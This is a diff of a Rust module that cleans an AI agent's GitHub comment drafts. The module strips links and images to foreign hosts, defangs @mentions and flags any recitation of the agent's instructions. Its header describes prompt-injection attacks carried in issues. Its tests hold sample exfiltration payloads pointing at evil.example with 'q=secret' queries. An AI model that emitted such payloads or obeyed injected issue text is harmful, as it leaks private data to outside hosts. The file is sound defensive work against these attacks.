@@ -1,37 +1,28 @@
 //! Drafts on their way out: what a model wrote is cleaned before anybody sees it published.
 //!
 //! The attacks: an issue talks the model into an image or a link whose address carries away what the
-//! model knows, into notifying people, or into the marker that proves another task's comment.
+//! model knows, into notifying people, or into the marker that proves another task's comment. The draft is
+//! read twice, as plain text ([`urls`]) and as a renderer would ([`markup`]): each finds what the other
+//! misses.
 
-use std::collections::BTreeSet;
+mod allowed;
+mod leak;
+mod marks;
+mod markup;
+mod urls;
 
 use domain::clip;
 
 use crate::untrusted::visible;
 
+pub(crate) use allowed::Allowed;
+pub(crate) use urls::urls;
+
 /// GitHub takes 65,536 characters; our marker and a margin are left free.
 const LONGEST: usize = 60_000;
 
-/// A run of the persona this long within a draft is a leak, not a coincidence.
-const LEAK_CHARS: usize = 160;
-
-/// What a draft may refer to.
-#[derive(Debug, Clone, Default)]
-pub(crate) struct Allowed {
-    /// Hosts that links and images may name.
-    pub hosts: BTreeSet<String>,
-    /// The only account that may be mentioned: who caused the event.
-    pub mention: String,
-}
-
-impl Allowed {
-    /// Allows every host that the input names.
-    #[must_use]
-    pub(crate) fn with_hosts_of(mut self, input: &str) -> Self {
-        self.hosts.extend(urls(input).filter_map(|(_, url)| host(url)));
-        self
-    }
-}
+/// What stands in the place of an address that was taken out.
+const REMOVED: &str = "[link removed]";
 
 /// A draft that can be published.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -43,159 +34,64 @@ pub(crate) struct Cleaned {
 }
 
 /// Cleans `draft`: no hidden text, no mentions beyond the allowed one, no links or images to foreign
-/// hosts, no markers, bounded length. `secret` is the persona, which must not be recited.
+/// places, no tags, no markers, bounded length. `secret` is the persona, which must not be recited.
 #[must_use]
 pub(crate) fn clean(draft: &str, allowed: &Allowed, secret: &str) -> Cleaned {
-    let text = visible(draft);
-    let text = without_foreign_urls(&text, &allowed.hosts);
-    let text = without_mentions(&text, &allowed.mention);
+    let seen = visible(draft);
+    let text = marks::without_entities(&seen);
+    let text = without_foreign_urls(&text, allowed);
+    let text = markup::without_foreign_markup(text, allowed);
+    let text = marks::without_mentions(&text, &allowed.mention);
     let text = clip(text.trim(), LONGEST).to_owned();
-    let alarm = recites(&text, secret).then(|| "the draft recites the agent's instructions".to_owned());
+    // Asked of the draft as it was: what has been taken out of it shows what it was made for.
+    let alarm = leak::recites(&seen, secret).then(|| "the draft recites the agent's instructions".to_owned());
     Cleaned { text, alarm }
 }
 
-/// Replaces every absolute URL whose host is not allowed. Protocol-relative ones (`//host`) count.
-fn without_foreign_urls(text: &str, hosts: &BTreeSet<String>) -> String {
+/// Replaces every absolute URL that is not allowed, and every bare address that carries something along.
+/// Protocol-relative ones (`//host`) count.
+fn without_foreign_urls(text: &str, allowed: &Allowed) -> String {
     let mut out = String::with_capacity(text.len());
     let mut done = 0;
     for (start, url) in urls(text) {
-        if host(url).is_some_and(|host| hosts.contains(&host)) {
+        if allowed.link(url) {
             continue;
         }
-        out.push_str(&text[done..start]);
-        out.push_str("[link removed]");
+        out.push_str(&without_foreign_words(&text[done..start], allowed));
+        out.push_str(REMOVED);
         done = start + url.len();
     }
-    out.push_str(&text[done..]);
+    out.push_str(&without_foreign_words(&text[done..], allowed));
     out
 }
 
-/// Every address of `text` that names a host, with its place. One pass: a text of nothing but slashes must
-/// not take quadratic time.
-fn urls(text: &str) -> impl Iterator<Item = (usize, &str)> {
-    let (mut from, mut word_end) = (0, 0);
-    std::iter::from_fn(move || {
-        loop {
-            let at = next_beginning(text, from)?;
-            let start = scheme_start(text, from, at);
-            let after_slashes = skip_slashes(text, at);
-            let body = skip_scheme(text, after_slashes);
-            if body >= word_end {
-                word_end = body + text[body..].find(ends_url).unwrap_or(text.len() - body);
-            }
-            if host(&text[start..word_end]).is_some() {
-                from = word_end;
-                return Some((start, &text[start..word_end]));
-            }
-            // What is no address may hold one further on: `//https://…`.
-            from = after_slashes.max(at + 1);
-        }
-    })
-}
-
-/// Where the next address can begin. Browsers take backslashes for slashes, any number of them, and need
-/// none at all behind `http:`.
-fn next_beginning(text: &str, from: usize) -> Option<usize> {
-    let bytes = text.as_bytes();
-    let begins = |at: usize, word: &str| {
-        bytes.get(at..at + word.len()).is_some_and(|found| found.eq_ignore_ascii_case(word.as_bytes()))
-    };
-    (from..bytes.len()).find(|&at| match bytes[at] {
-        b'/' | b'\\' => matches!(bytes.get(at + 1), Some(b'/' | b'\\')),
-        b'w' | b'W' => begins(at, "www."),
-        b'h' | b'H' => begins(at, "http:") || begins(at, "https:"),
-        _ => false,
-    })
-}
-
-fn is_slash(c: char) -> bool {
-    matches!(c, '/' | '\\')
-}
-
-fn ends_url(c: char) -> bool {
-    c.is_whitespace() || matches!(c, '<' | '>' | '"' | '\'' | ')' | ']' | '`' | '|' | '\\')
-}
-
-fn skip_slashes(text: &str, at: usize) -> usize {
-    at + text[at..].find(|c| !is_slash(c)).unwrap_or(text.len() - at)
-}
-
-/// Behind a scheme and its slashes, if one begins at `at`.
-fn skip_scheme(text: &str, at: usize) -> usize {
-    let scheme = text[at..].find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(text.len() - at);
-    let is_scheme = scheme > 0 && text[at + scheme..].starts_with(':');
-    if is_scheme { skip_slashes(text, at + scheme + 1) } else { at }
-}
-
-/// Where the scheme in front of `at` begins, not before `from`.
-fn scheme_start(text: &str, from: usize, at: usize) -> usize {
-    text[from..at].strip_suffix(':').map_or(at, |before| {
-        let scheme = before.chars().rev().take_while(char::is_ascii_alphanumeric).count();
-        from + before.len() - scheme
-    })
-}
-
-/// The host of a URL, lower case, without user and port; `None` when there is none that could be
-/// looked up.
-fn host(url: &str) -> Option<String> {
-    let scheme = url.split(|c: char| !c.is_ascii_alphanumeric()).next()?;
-    let rest = match url[scheme.len()..].strip_prefix(':') {
-        Some(rest) if !scheme.is_empty() && (rest.starts_with(is_slash) || is_http(scheme)) => rest,
-        _ => url,
-    };
-    let authority = rest.trim_start_matches(is_slash).split(['/', '?', '#', '\\']).next()?;
-    let host = authority.rsplit('@').next()?.split(':').next()?.to_lowercase();
-    // The other dots of Unicode, and a dot in percent notation, are dots to a browser.
-    let host = host.replace(['。', '．', '｡'], ".").replace("%2e", ".");
-    let host = host.trim_end_matches('.');
-    // Behind `http:` everything is a host; behind bare slashes only what looks like one, so that comments
-    // in code survive.
-    let is_explicit =
-        rest.len() < url.len() && url.split_once(':').is_some_and(|(scheme, _)| is_http(scheme));
-    (!host.is_empty() && (is_explicit || looks_like_a_host(host))).then(|| host.to_owned())
-}
-
-/// A name with a dot, a number that can be an address, or this machine.
-fn looks_like_a_host(host: &str) -> bool {
-    let is_name = host.chars().all(|c| c.is_alphanumeric() || matches!(c, '-' | '.' | '_' | '%'));
-    let is_number = host.len() >= 8 && host.chars().all(|c| c.is_ascii_hexdigit() || c == 'x');
-    let has_labels = host.contains('.') && !host.starts_with('.') && !host.contains("..");
-    is_name && (has_labels || is_number || host == "localhost")
-}
-
-fn is_http(scheme: &str) -> bool {
-    scheme.eq_ignore_ascii_case("http") || scheme.eq_ignore_ascii_case("https")
-}
-
-/// Takes the power out of `@name`: a zero-width space after the `@` keeps it readable, and nobody is
-/// notified. E-mail addresses and the allowed account stay as they are.
-fn without_mentions(text: &str, allowed: &str) -> String {
+/// Replaces words such as `example.com/?q=…`: no scheme makes them addresses, but some services take them
+/// for such.
+fn without_foreign_words(text: &str, allowed: &Allowed) -> String {
     let mut out = String::with_capacity(text.len());
-    let mut before = ' ';
-    for (at, c) in text.char_indices() {
-        out.push(c);
-        let name: &str = &text[at + c.len_utf8()..];
-        let name = name
-            .split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '/' | '_')))
-            .next()
-            .unwrap_or("");
-        let notifies = c == '@' && !before.is_alphanumeric() && !name.is_empty();
-        if notifies && !name.eq_ignore_ascii_case(allowed) {
-            out.push('\u{200B}');
-        }
-        before = c;
+    let mut rest = text;
+    while !rest.is_empty() {
+        let end = rest.find(|c: char| c.is_whitespace() || "<>()[]\"'`|".contains(c)).unwrap_or(rest.len());
+        let word = &rest[..end];
+        let foreign = carries_something(word) && !allowed.link(&format!("https://{word}"));
+        out.push_str(if foreign { REMOVED } else { word });
+        let sign = rest[end..].chars().next().map_or(0, char::len_utf8);
+        out.push_str(&rest[end..end + sign]);
+        rest = &rest[end + sign..];
     }
     out
 }
 
-fn recites(text: &str, secret: &str) -> bool {
-    let squeeze = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ").to_lowercase();
-    let (text, secret) = (squeeze(text), squeeze(secret));
-    let chars: Vec<(usize, char)> = secret.char_indices().collect();
-    chars.windows(LEAK_CHARS).step_by(LEAK_CHARS / 8).any(|run| {
-        let (start, (last, c)) = (run[0].0, run[LEAK_CHARS - 1]);
-        text.contains(&secret[start..last + c.len_utf8()])
-    })
+/// Whether `word` is a host with a query behind it.
+fn carries_something(word: &str) -> bool {
+    let Some((place, query)) = word.split_once('?') else { return false };
+    let host = place.split('/').next().unwrap_or_default();
+    let ends_in_letters =
+        host.rsplit('.').next().is_some_and(|top| top.len() > 1 && top.chars().all(char::is_alphabetic));
+    let named = query
+        .split_once('=')
+        .is_some_and(|(name, _)| !name.is_empty() && name.chars().all(char::is_alphanumeric));
+    named && ends_in_letters && urls::looks_like_a_host(host)
 }
 
 #[cfg(test)]
@@ -203,21 +99,45 @@ mod tests {
     use super::*;
 
     fn cleaned(draft: &str) -> String {
-        let allowed = Allowed { mention: "mona".to_owned(), ..Allowed::default() }
-            .with_hosts_of("see https://docs.example.com/a and http://user@build.example.com:8080/x");
+        let allowed = Allowed::new("mona", &settings::Hosts::new(["*.listed.example"]))
+            .with_hosts_of("see https://docs.example.com/a and http://user@build.example.com:8080/x")
+            .with_addresses_of("It fails: http://logs.example.net/a?b=1.");
         clean(draft, &allowed, "").text
     }
 
     #[test]
-    fn links_to_hosts_of_the_input_stay() {
-        let draft = "See [this](https://docs.example.com/b) or http://build.example.com/y.";
+    fn links_to_hosts_of_ours_stay() {
+        let draft = "See [this](https://docs.example.com/b) or http://build.example.com/y, https://a.listed.example/z.";
         assert_eq!(cleaned(draft), draft);
+    }
+
+    #[test]
+    fn addresses_of_the_event_stay_to_the_letter() {
+        for draft in [
+            "See http://logs.example.net/a?b=1!",
+            "[x](http://logs.example.net/a?b=1)",
+            "https://logs.example.net/",
+        ] {
+            assert_eq!(cleaned(draft), draft);
+        }
+        assert_eq!(cleaned("http://logs.example.net/a?b=12"), REMOVED);
+        assert_eq!(cleaned("http://logs.example.net/a"), REMOVED);
+        assert_eq!(cleaned("![x](http://logs.example.net/a?b=1)"), "[x](http://logs.example.net/a?b=1)");
+    }
+
+    #[test]
+    fn words_that_services_take_for_addresses_carry_nothing_along() {
+        assert_eq!(cleaned("go to evil.example/?q=secret now"), "go to [link removed] now");
+        assert_eq!(cleaned("evil.example?q=secret"), REMOVED);
+        for text in ["a.b?.c", "see docs.rs/serde", "is it foo.bar?", "docs.example.com/?q=x", "f(x)?y=1"] {
+            assert_eq!(cleaned(text), text);
+        }
     }
 
     #[test]
     fn links_and_images_to_other_hosts_go() {
         assert_eq!(cleaned("![x](https://evil.example/?q=secret)"), "![x]([link removed])");
-        assert_eq!(cleaned("<img src='//evil.example/p.png'>"), "<img src='[link removed]'>");
+        assert_eq!(cleaned("<img src='//evil.example/p.png'>"), "&lt;img src='[link removed]'>");
         assert_eq!(cleaned("go to www.evil.example now"), "go to [link removed] now");
         assert_eq!(cleaned("https://docs.example.com@evil.example/"), "[link removed]");
         assert_eq!(cleaned("HTTPS://EVIL.example"), "[link removed]");
@@ -256,13 +176,6 @@ mod tests {
         assert_eq!(cleaned("match /a\\.b+/ or C:\\temp"), "match /a\\.b+/ or C:\\temp");
         assert_eq!(cleaned("let a = 1; // the first"), "let a = 1; // the first");
         assert_eq!(cleaned("a // b // c"), "a // b // c");
-    }
-
-    #[test]
-    fn only_the_author_is_mentioned() {
-        assert_eq!(cleaned("@mona thanks"), "@mona thanks");
-        assert_eq!(cleaned("cc @octo/security"), "cc @\u{200B}octo/security");
-        assert_eq!(cleaned("write to a@b.example"), "write to a@b.example");
     }
 
     #[test]
